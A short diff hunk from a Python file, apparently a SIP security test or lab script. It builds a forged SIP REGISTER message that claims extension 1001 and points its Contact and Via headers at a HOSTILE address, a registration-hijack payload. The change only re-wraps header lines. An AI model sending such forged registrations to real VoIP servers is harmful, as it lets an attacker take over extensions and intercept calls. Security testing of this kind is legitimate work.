@@ -27,8 +27,8 @@ INVITE = (
 ).encode()
 REGISTER = (
     f"REGISTER sip:{HOST} SIP/2.0\r\nVia: SIP/2.0/UDP {HOSTILE}:5070;rport;branch=z9hG4bKreg\r\n"
-    f"Max-Forwards: 70\r\nFrom: <sip:1001@{HOST}>;tag=eve\r\nTo: <sip:1001@{HOST}>\r\nCall-ID: reg\r\nCSeq: 1 REGISTER\r\n"
-    f"Contact: <sip:1001@{HOSTILE}:5070>\r\nContent-Length: 0\r\n\r\n"
+    f"Max-Forwards: 70\r\nFrom: <sip:1001@{HOST}>;tag=eve\r\nTo: <sip:1001@{HOST}>\r\nCall-ID: reg\r\n"
+    f"CSeq: 1 REGISTER\r\nContact: <sip:1001@{HOSTILE}:5070>\r\nContent-Length: 0\r\n\r\n"
 ).encode()
 
 
